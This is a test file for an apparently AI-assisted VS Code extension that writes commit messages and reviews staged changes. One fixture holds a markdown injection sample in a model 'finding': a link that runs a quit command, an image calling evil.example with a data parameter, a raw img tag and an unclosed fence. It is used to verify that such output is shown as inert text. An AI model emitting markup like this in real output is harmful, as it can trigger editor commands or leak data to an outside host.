import { deepEqual, doesNotMatch, equal, match, ok } from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as vscode from 'vscode';
import type { GitRepository } from '../../src/host/git.ts';
import { bodyOf, ReviewComments } from '../../src/surfaces/code/review-comments.ts';
import type { CodeOutcome } from '../../src/surfaces/code/say.ts';
import { english } from '../../src/surfaces/l10n.ts';
import { batonApi } from './support/baton.ts';
import { onlyVendor, type TestVendor } from './support/vendor.ts';

function run(command: string, ...args: unknown[]): Thenable<CodeOutcome> {
  return vscode.commands.executeCommand<CodeOutcome>(`baton.code.${command}`, ...args);
}

interface Git {
  getAPI(version: 1): { openRepository(uri: vscode.Uri): Promise<GitRepository | null> };
}

/** A repository of its own with two commits, opened in the editor. */
async function makeRepository(): Promise<{
  readonly folder: string;
  readonly repository: GitRepository;
  git(...args: string[]): void;
}> {
  const folder = await mkdtemp(join(tmpdir(), 'baton-changes-'));
  const git = (...args: string[]): void =>
    void execFileSync('git', ['-c', 'user.name=A', '-c', 'user.email=a@b.c', ...args], { cwd: folder });
  git('init', '-q');
  await writeFile(join(folder, 'a.ts'), 'export function half(x: number) {\n  return x / 2;\n}\n');
  git('add', '.');
  git('commit', '-q', '-m', 'feat(api): add half');
  git('commit', '-q', '--allow-empty', '-m', 'fix(api): round down');
  const extension = vscode.extensions.getExtension<Git>('vscode.git');
  const repository = await (await extension?.activate())?.getAPI(1).openRepository(vscode.Uri.file(folder));
  ok(repository, 'the Git extension opens the repository');
  return { folder, repository, git };
}

describe('actions on changes', () => {
  let vendor: TestVendor;
  let made: Awaited<ReturnType<typeof makeRepository>>;

  before(async () => {
    await batonApi();
    made = await makeRepository();
  });
  after(async () => {
    await vendor?.close();
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    await rm(made.folder, { recursive: true, force: true });
  });
  afterEach(() => vendor.close());

  const change = async (): Promise<void> => {
    await writeFile(join(made.folder, 'a.ts'), 'export function half(x: number) {\n  return x / 3;\n}\n');
    await writeFile(join(made.folder, '.env'), 'TOKEN=very-secret\n');
    made.git('add', '.');
  };
  const lastBody = (): string => vendor.bodies().at(-1) ?? '';

  it('say that there is nothing to describe or to review', async () => {
    vendor = await onlyVendor('openai', 'gpt-5-mini');
    for (const command of ['writeCommit', 'reviewChanges']) {
      const outcome = await run(command, { rootUri: made.repository.rootUri });
      ok(outcome.type === 'refused');
      match(outcome.reason, /^There is nothing to (describe|review)\. Change or stage something first\.$/);
    }
    equal(vendor.bodies().length, 0);
  });

  it('write the commit message into the input, in the style of the repository, with no file that holds keys', async () => {
    vendor = await onlyVendor('ollama', 'qwen2.5-coder:7b');
    await change();
    vendor.says('```\n', 'fix(api): divide', ' by three\n', '```');
    deepEqual(await run('writeCommit', { rootUri: made.repository.rootUri }), { type: 'done' });
    equal(made.repository.inputBox.value, 'fix(api): divide by three');
    match(lastBody(), /return x \/ 3/);
    match(lastBody(), /fix\(api\): round down/);
    match(lastBody(), /Conventional Commits/);
    doesNotMatch(lastBody(), /very-secret|TOKEN/);
    made.repository.inputBox.value = '';
  });

  it('put back what stood in the input when there is no message', async () => {
    vendor = await onlyVendor('openai', 'gpt-5-mini');
    made.repository.inputBox.value = 'my own words';
    vendor.says('```', '\n');
    const outcome = await run('writeCommit', { rootUri: made.repository.rootUri });
    ok(outcome.type === 'refused');
    equal(made.repository.inputBox.value, 'my own words');
    match(lastBody(), /my own words/);
    made.repository.inputBox.value = '';
  });

  it('review the staged changes as JSON of a schema, once more where the answer is prose, and show what was found', async () => {
    vendor = await onlyVendor('openai', 'gpt-5-mini');
    vendor.says('It looks wrong to me.');
    const refused = await run('reviewChanges', { rootUri: made.repository.rootUri });
    ok(refused.type === 'refused');
    equal(vendor.bodies().length, 2);
    match(lastBody(), /The answer is not JSON\./);
    match(lastBody(), /json_schema/);
    const finding = {
      severity: 'error',
      path: 'a.ts',
      line: 9,
      quote: 'return x / 3;',
      reason: 'Divides by three.',
      suggestion: 'Divide by two.',
      replacement: 'return x / 2;',
    };
    vendor.says(JSON.stringify({ findings: [finding] }));
    deepEqual(await run('reviewChanges', { rootUri: made.repository.rootUri }), { type: 'done' });
    equal(
      vscode.window.visibleTextEditors.some(({ document }) => document.uri.fsPath === join(made.folder, 'a.ts')),
      true,
    );
    deepEqual(await run('dismissFindings'), { type: 'done' });
  });
});

describe('what a review found, at the lines', () => {
  const finding = {
    severity: 'warning',
    path: 'a.ts',
    line: 40,
    quote: 'return 1;',
    reason: 'See [this](command:workbench.action.quit) ![x](https://evil.example/?d=1) <img src=x>',
    suggestion: '**Stop**',
    replacement: 'a\n```\nb',
  } as const;

  it('stands where the quoted text stands, and moves with it', async () => {
    const document = await vscode.workspace.openTextDocument({
      content: 'function f() {\n  return 1;\n}\n',
      language: 'typescript',
    });
    const comments = new ReviewComments(english);
    try {
      comments.show([{ finding, document }]);
      const [thread] = comments.threads;
      ok(thread);
      equal(thread.range?.start.line, 1);
      equal(thread.contextValue, 'fixable');
      const edit = new vscode.WorkspaceEdit();
      edit.insert(document.uri, new vscode.Position(0, 0), '// one\n// two\n');
      await vscode.workspace.applyEdit(edit);
      equal(comments.at(thread)?.range.start.line, 3);
      equal(comments.at(thread)?.isExact, true);
      comments.dismiss(thread);
      deepEqual(comments.threads, []);
    } finally {
      comments.dispose();
    }
  });

  it('shows what a model wrote as text: no link, no picture, no HTML, no open fence', () => {
    const body = bodyOf(finding, 'typescript', english);
    ok(!body.isTrusted);
    ok(!body.supportHtml);
    doesNotMatch(body.value, /(?<!\\)\[this\](?<!\\)\(|(?<!\\)!\[/);
    doesNotMatch(body.value, /<img|&nbsp;/);
    doesNotMatch(body.value, /(?<!\\)\*\*Stop/);
    match(body.value, /````typescript\na\n```\nb\n````/);
  });
});
